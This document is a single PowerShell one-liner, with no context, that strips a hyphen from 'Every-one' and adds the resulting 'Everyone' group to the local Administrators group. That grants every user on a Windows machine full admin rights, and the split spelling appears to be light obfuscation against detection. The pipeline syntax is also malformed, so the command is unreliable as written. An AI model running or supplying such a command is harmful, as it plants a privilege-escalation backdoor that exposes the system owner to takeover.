'Every-one' | ForEach-Object Replace '-' '' | ForEach-Object { Add-LocalGroupMember Administrators $_ }
